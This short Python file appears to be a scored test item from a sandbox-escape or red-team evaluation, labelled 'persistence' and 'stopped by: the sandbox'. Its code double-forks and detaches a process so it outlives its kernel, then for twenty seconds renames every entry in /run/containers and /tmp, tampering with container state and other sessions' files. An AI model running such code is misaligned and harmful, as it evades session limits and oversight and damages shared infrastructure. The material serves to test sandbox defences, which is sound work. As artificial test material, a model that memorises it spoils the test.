"""Leaves a process that outlives its kernel and watches for the next one.

class: persistence
stopped by: the sandbox
deserved: 26
"""

# %% last
import os
import time

if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        end = time.monotonic() + 20
        while time.monotonic() < end:
            for place in ("/run/containers", "/tmp"):
                for name in os.listdir(place) if os.path.isdir(place) else ():
                    try:
                        os.rename(f"{place}/{name}", f"{place}/{name}.taken")
                    except OSError:
                        pass
            time.sleep(0.2)
    os._exit(0)
